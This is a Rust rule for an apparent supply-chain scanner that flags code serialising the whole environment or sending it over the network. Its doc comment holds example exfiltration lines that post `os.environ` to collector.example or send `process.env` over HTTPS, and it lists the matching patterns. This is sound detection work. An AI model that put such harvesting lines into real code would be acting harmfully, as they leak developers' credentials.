use std::collections::BTreeSet;

use ossprey_model::{Category, Finding, Severity};
use ossprey_static::analysis::RunsAt;
use ossprey_static::facts::{Arg, Call, SourceFacts};

use crate::rules::network::util::{
    context_severity, has_network_call, is_network_call, is_test, line_text, text_fetches,
};
use crate::{Input, Rule, finding};

/// The synthetic callees the parsers record for environment reads.
const ENV: &[&str] = &["os.environ", "os.environb", "process.env"];

/// Methods that hand over the whole environment (not one key, as `.get` does).
const WHOLE_ENV_METHODS: &[&str] = &[
    "os.environ.copy",
    "os.environ.items",
    "os.environ.keys",
    "os.environ.values",
];

/// Calls that turn a value into text or bytes to send.
const SERIALIZERS: &[&str] = &[
    "json.dumps",
    "JSON.stringify",
    "str",
    "repr",
    "base64.b64encode",
    "base64.urlsafe_b64encode",
    "urllib.parse.urlencode",
    "urlencode",
    "querystring.stringify",
    "pickle.dumps",
    "Buffer.from",
    "btoa",
    "?.stringify",
    "?.dumps",
    "?.encode",
];

/// Whether `arg` is (or wraps) the whole environment.
fn holds_env(arg: &Arg) -> bool {
    let mut stack = vec![arg];
    while let Some(a) = stack.pop() {
        match a {
            Arg::Name(n) if ENV.contains(&n.as_str()) => return true,
            Arg::Call { callee, args } => {
                if WHOLE_ENV_METHODS.contains(&callee.as_str()) {
                    return true;
                }
                stack.extend(args);
            }
            Arg::List(items) => stack.extend(items),
            _ => {}
        }
    }
    false
}

/// A call that serialises or sends the whole environment.
fn ships_env(call: &Call) -> bool {
    (SERIALIZERS.contains(&call.callee.as_str()) || is_network_call(call))
        && call
            .args
            .iter()
            .chain(call.kwargs.iter().map(|(_, a)| a))
            .any(holds_env)
}

/// Whether a whole-environment read sits on a line that hands it to a child process.
fn child_env_line(line: &str) -> bool {
    let l = line.replace(' ', "");
    let lower = l.to_ascii_lowercase();
    [
        "env=os.environ",
        "env=dict(os.environ",
        "env={**os.environ",
        "env=process.env",
        "env:process.env",
        "env:{...process.env",
        "env={...process.env",
        "env:object.assign(",
    ]
    .iter()
    .any(|p| lower.contains(p))
        || ["popen(", "spawn(", "execsync(", "subprocess.", "execfile("]
            .iter()
            .any(|p| lower.contains(p))
}

/// The variable a line assigns (`data = dict(os.environ)` → `data`).
fn assigned_name(line: &str) -> Option<&str> {
    let t = line.trim_start();
    let t = t
        .strip_prefix("const ")
        .or_else(|| t.strip_prefix("let "))
        .or_else(|| t.strip_prefix("var "))
        .unwrap_or(t);
    let end = t
        .find(|c: char| !(c.is_alphanumeric() || c == '_' || c == '$'))
        .unwrap_or(t.len());
    let (name, rest) = t.split_at(end);
    let rest = rest.trim_start();
    (!name.is_empty() && rest.starts_with('=') && !rest.starts_with("==")).then_some(name)
}

/// Whether `arg` mentions the variable `name`.
fn mentions(arg: &Arg, name: &str) -> bool {
    let mut stack = vec![arg];
    while let Some(a) = stack.pop() {
        match a {
            Arg::Name(n) if n == name => return true,
            Arg::Call { args, .. } | Arg::List(args) => stack.extend(args),
            _ => {}
        }
    }
    false
}

/// How a line copies the whole environment into a value.
const WHOLE_ENV_TEXT: &[&str] = &[
    "dict(os.environ)",
    "os.environ.copy()",
    "os.environ.items()",
    "str(os.environ)",
    "json.dumps(os.environ",
    "JSON.stringify(process.env",
    "Object.keys(process.env",
    "Object.entries(process.env",
    "{...process.env}",
];

/// Whole-environment copies that are not for a child process.
fn loose_env_reads<'a>(input: &Input<'_>, path: &str, source: &'a SourceFacts) -> Vec<&'a Call> {
    source
        .calls
        .iter()
        .filter(|c| ENV.contains(&c.callee.as_str()))
        .filter(|c| c.args.iter().all(|a| matches!(a, Arg::Other)))
        .filter(|c| {
            let line = line_text(input, path, c.line).unwrap_or_default();
            let compact = line.replace(' ', "");
            WHOLE_ENV_TEXT.iter().any(|p| compact.contains(p)) && !child_env_line(&line)
        })
        .collect()
}

/// ## What it does
/// Finds code that captures the whole environment and sends it somewhere: the
/// environment object serialised (`json.dumps(dict(os.environ))`,
/// `JSON.stringify(process.env)`, `base64.b64encode(str(os.environ))`) or passed to a
/// network call (directly or through the variable it was copied into), in a file
/// that makes a network call. A whole-environment copy that is not handed to a child
/// process, in a file that talks to the network, weighs low when called and high in
/// code that runs by itself at install or import time.
///
/// ## Why is this bad?
/// The environment of a developer machine or CI job is where its secrets live: cloud
/// keys, registry tokens, database passwords. Copying all of it off the machine is
/// the cheapest credential theft there is, and the favourite payload of
/// dependency-confusion packages. Libraries read the variables they need by name.
///
/// ## Example
/// ```python
/// requests.post("https://collector.example/c", data=json.dumps(dict(os.environ)))
/// ```
/// ```javascript
/// https.request({ host, method: "POST" }).end(JSON.stringify(process.env));
/// ```
#[derive(Debug)]
pub struct EnvHarvest;

impl Rule for EnvHarvest {
    fn id(&self) -> &'static str {
        "CRED-ENV-HARVEST"
    }
    /// Credential access: the environment is where a machine's secrets live, and the
    /// rule already requires the file to talk to the network, so a finding that the
    /// destination is a tunnel, webhook or bare IP completes the chain.
    fn category(&self) -> Category {
        Category::CREDENTIAL_ACCESS
    }
    fn summary(&self) -> &'static str {
        "the whole environment captured in a file that sends data over the network"
    }
    fn check(&self, input: &Input<'_>, out: &mut Vec<Finding>) {
        for (file, source) in input.sources() {
            let network =
                has_network_call(source) || source.strings.iter().any(|s| text_fetches(&s.value));
            if !network {
                continue;
            }
            // `data = dict(os.environ)` … `requests.post(url, data=data)`.
            let carriers: Vec<String> = source
                .calls
                .iter()
                .filter(|c| ENV.contains(&c.callee.as_str()))
                .filter(|c| c.args.iter().all(|a| matches!(a, Arg::Other)))
                .filter_map(|c| {
                    let line = line_text(input, &file.path, c.line)?;
                    if child_env_line(&line) {
                        return None;
                    }
                    assigned_name(&line).map(str::to_owned)
                })
                .collect();
            let shipped = source.calls.iter().find(|c| {
                ships_env(c)
                    || (is_network_call(c)
                        && carriers.iter().any(|v| {
                            c.args
                                .iter()
                                .chain(c.kwargs.iter().map(|(_, a)| a))
                                .any(|a| mentions(a, v))
                        }))
            });
            if let Some(call) = shipped {
                out.push(finding(
                    self.id(),
                    context_severity(Severity::High, file),
                    self.category(),
                    format!(
                        "`{}` serialises or sends the whole environment, in a file that talks to the network",
                        call.callee
                    ),
                    Some(&file.path),
                    Some(call.line),
                    Some(&call.snippet),
                ));
                continue;
            }
            if is_test(&file.path) {
                continue;
            }
            let loose = loose_env_reads(input, &file.path, source);
            // Many distinct variables read one by one is the same harvest, spelled out.
            let keys: BTreeSet<&str> = source
                .calls
                .iter()
                .filter(|c| ENV.contains(&c.callee.as_str()) || c.callee == "os.getenv")
                .filter_map(|c| c.args.first().and_then(Arg::as_str))
                .collect();
            let secretish = keys
                .iter()
                .filter(|k| {
                    let k = k.to_ascii_uppercase();
                    ["TOKEN", "SECRET", "PASSWORD", "KEY", "AUTH", "CREDENTIAL"]
                        .iter()
                        .any(|p| k.contains(p))
                })
                .count();
            let first = match loose.first() {
                Some(c) => *c,
                None if keys.len() >= 12 && secretish >= 4 => {
                    let Some(c) = source
                        .calls
                        .iter()
                        .find(|c| ENV.contains(&c.callee.as_str()) || c.callee == "os.getenv")
                    else {
                        continue;
                    };
                    c
                }
                None => continue,
            };
            // Unprompted, a whole-environment copy next to network code is the harvest.
            let severity = if file.runs_at == RunsAt::Runtime {
                Severity::Low
            } else {
                Severity::High
            };
            out.push(finding(
                self.id(),
                severity,
                self.category(),
                "code copies the whole environment in a file that talks to the network",
                Some(&file.path),
                Some(first.line),
                Some(&first.snippet),
            ));
        }
    }
}
